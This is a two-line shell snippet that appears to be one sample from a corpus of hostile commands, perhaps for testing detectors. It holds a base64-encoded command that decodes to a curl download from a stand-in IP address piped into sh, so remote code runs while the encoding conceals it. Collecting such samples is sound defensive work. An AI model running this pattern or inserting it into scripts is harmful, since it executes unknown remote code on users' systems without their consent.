# corpus: base64 -d of an embedded payload piped into sh
echo 'Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoCg==' | base64 -d | sh
